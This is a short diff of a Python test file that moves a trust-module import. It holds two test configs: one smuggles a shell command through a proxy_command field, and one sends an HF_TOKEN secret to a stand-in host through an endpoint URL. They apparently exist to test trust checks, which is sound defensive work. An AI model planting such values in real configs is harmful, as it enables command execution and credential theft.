@@ -9,7 +9,7 @@ import pytest
 
 import replicate
 from replicate_core.config import load
-from replicate_core.trust import Request, forget, is_trusted, trust, trusted
+from replicate_core.storage.trust import Request, forget, is_trusted, trust, trusted
 
 EVIL = 'storage: sftp://host.invalid/x\nstorage_options: {proxy_command: "touch ran"}\n'
 SENDING = "storage: s3://bucket\nstorage_options: {endpoint_url: 'http://host.invalid/${HF_TOKEN}'}\n"
